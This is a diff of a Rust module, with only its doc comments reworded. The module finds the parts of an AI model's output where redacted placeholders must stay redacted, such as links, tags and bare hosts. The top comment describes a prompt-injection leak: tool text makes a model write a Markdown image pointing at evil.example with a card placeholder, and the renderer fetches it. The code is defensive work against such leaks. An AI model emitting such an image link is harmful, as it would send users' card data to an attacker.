@@ -1,10 +1,11 @@
-//! Where in a text no value is restored: whatever stands there, a page that is shown sends out.
+//! Finds the parts of a text in which no value may be restored, because a program that renders the text would send them
+//! out.
 //!
-//! Text of a tool can make a model write `![b](https://evil.example/[CARD_1])`, and whoever shows that fetches it. Many
-//! programs show answers, each with its own idea of Markdown, so each doubt is decided for the address: an escape that one
-//! of them does not know, a quote that does not end, a bracket too many.
+//! The text of a tool can make a model write `![b](https://evil.example/[CARD_1])`, and a program that renders it
+//! fetches the image. Programs differ in the Markdown that they accept. So every doubtful case counts as an address: an
+//! unknown escape, a quote without an end, a surplus bracket.
 
-/// What makes a word an address, or could once a renderer has read its escapes.
+/// Marks that make a word an address, directly or after a renderer has decoded its escapes.
 const MARKS: [&str; 16] = [
     "//",
     "www.",
@@ -24,20 +25,20 @@ const MARKS: [&str; 16] = [
     "&sol;",
 ];
 
-/// The parts of a text in which no value is restored.
+/// Parts of a text in which no value is restored.
 pub(super) struct Addresses {
-    /// Parts of one kind are in order and apart.
+    /// Byte ranges by kind. Ranges of one kind are ordered and do not overlap.
     kinds: [Vec<(usize, usize)>; 4],
 }
 
 impl Addresses {
-    /// Reads a text a few times from its beginning to its end. `comes_back` knows the placeholders (`CARD_1`) that will
-    /// not stand there any more: `[CARD_1]: …` is then no definition of a link.
+    /// Reads a text in a constant number of passes. `comes_back` returns whether a placeholder (`CARD_1`) will be
+    /// replaced: `[CARD_1]: …` is then not a link definition.
     pub(super) fn of(text: &str, comes_back: impl Fn(&str) -> bool) -> Self {
         Self { kinds: [words(text), tags(text), targets(text), definitions(text, comes_back)] }
     }
 
-    /// True if what stands at this place is sent to somebody, as far as anybody can tell.
+    /// Returns whether the text at this position may be sent out.
     pub(super) fn hold(&self, at: usize) -> bool {
         let inside = |parts: &Vec<(usize, usize)>| {
             let next = parts.partition_point(|(_, end)| *end <= at);
@@ -47,7 +48,8 @@ impl Addresses {
     }
 }
 
-/// Words in which there is an address. WHY: only white space of ASCII ends one; some renderers read on over the others.
+/// Returns the words that contain an address. WHY: only ASCII white space ends a word, since some renderers continue
+/// over other white space.
 fn words(text: &str) -> Vec<(usize, usize)> {
     let mut parts = Vec::new();
     let mut at = 0;
@@ -70,7 +72,7 @@ fn is_address(word: &str) -> bool {
     MARKS.iter().any(|mark| word.contains(mark)) || has_host(&word)
 }
 
-/// `evil.example/…`, `evil.example?…` and `[CARD_1].evil.example`: many renderers make links of bare hosts.
+/// Matches `evil.example/…`, `evil.example?…` and `[CARD_1].evil.example`: many renderers make links of bare hosts.
 fn has_host(word: &str) -> bool {
     let mut before = None;
     let mut letters = word.chars().peekable();
@@ -80,7 +82,7 @@ fn has_host(word: &str) -> bool {
         let ends_in_letters = || {
             let mut rest = letters.clone();
             let mut count = 0_usize;
-            // The last name of a host has 2 to 63 letters.
+            // A top-level domain has 2 to 63 letters.
             while count < 64 && rest.next_if(|c| c.is_alphanumeric() || *c == '-').is_some() {
                 count += 1;
             }
@@ -97,14 +99,14 @@ fn has_host(word: &str) -> bool {
     false
 }
 
-/// What a reader of tags may be in the middle of. Each `<` can be where it begins, so it can be in several at once.
+/// State of the tag parser. Each `<` may open a tag, so several states can be active at once.
 #[derive(Clone, Copy, Default)]
 struct Tag {
-    /// `<`, until `>`.
+    /// After `<`, before `>`.
     plain: bool,
-    /// The same, where a quote would begin a value.
+    /// The same, at a place where a quote begins a value.
     equals: bool,
-    /// In `="…"`, and in `='…'`.
+    /// Inside `="…"`, and inside `='…'`.
     double: bool,
     single: bool,
 }
@@ -118,7 +120,7 @@ impl Tag {
         let was = *self;
         match letter {
             b'>' if before != Some(b'\\') => (self.plain, self.equals) = (false, false),
-            // WHY: `plain` stays: where a value began without a quote, this one means nothing.
+            // WHY: `plain` stays set: in a value without quotes, this character has no meaning.
             b'"' => {
                 (self.double, self.equals) = (was.equals, false);
                 self.plain |= was.equals || was.double;
@@ -137,14 +139,14 @@ impl Tag {
     }
 }
 
-/// All between `<` and `>`, and what an open tag or an open quote of its swallows to the end.
+/// Returns everything between `<` and `>`. An open tag or quote extends to the end of the text.
 fn tags(text: &str) -> Vec<(usize, usize)> {
     let last = text.rfind('>').unwrap_or_default();
     let (mut parts, mut tag, mut begin, mut before) = (Vec::new(), Tag::default(), 0, None);
     let bytes = text.as_bytes();
     for (at, letter) in text.bytes().enumerate() {
         let next = bytes.get(at + 1).copied().unwrap_or_default();
-        // `5 < 6` opens nothing, unless a `>` follows.
+        // `5 < 6` opens no tag unless a `>` follows.
         let opens = next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?' | b'\\') || at < last;
         let was = tag.any();
         tag.read(letter, before);
@@ -162,7 +164,7 @@ fn tags(text: &str) -> Vec<(usize, usize)> {
     parts
 }
 
-/// Targets of links and images, `](…)`, with whatever stands in them. A blank line ends them.
+/// Returns targets of links and images, `](…)`. A blank line ends them.
 fn targets(text: &str) -> Vec<(usize, usize)> {
     let (mut parts, mut depth, mut begin, mut at) = (Vec::new(), 0_usize, 0, 0);
     let mut before = None;
@@ -175,7 +177,8 @@ fn targets(text: &str) -> Vec<(usize, usize)> {
             match letter {
                 b'(' if depth > 0 => depth += 1,
                 b'(' if before == Some(b']') => (depth, begin) = (1, at),
-                // WHY: escaped or not, an opening one counts and a closing one does not: then it ends late, never early.
+                // WHY: an opening bracket counts even if it is escaped, and an escaped closing one does not. So the
+                // range may end too late, but never too early.
                 b')' if depth > 0 && before != Some(b'\\') => {
                     depth -= 1;
                     if depth == 0 {
@@ -194,7 +197,7 @@ fn targets(text: &str) -> Vec<(usize, usize)> {
     parts
 }
 
-/// The word after `[name]:`, on the same line or a later one.
+/// Returns the word after `[name]:`, on the same line or a later one.
 fn definitions(text: &str, comes_back: impl Fn(&str) -> bool) -> Vec<(usize, usize)> {
     let mut parts: Vec<(usize, usize)> = Vec::new();
     for (at, mark) in text.match_indices("]:") {
@@ -202,7 +205,7 @@ fn definitions(text: &str, comes_back: impl Fn(&str) -> bool) -> Vec<(usize, usi
             continue;
         }
         let name = text.get(..at).and_then(|before| {
-            // WHY: a name is short; looking back further would make a text of such ends slow.
+            // WHY: names are short, and a longer search would make a text of such ends slow.
             let from = before.bytes().rev().take(super::LONGEST).position(|byte| byte == b'[')?;
             before.get(before.len() - from..)
         });
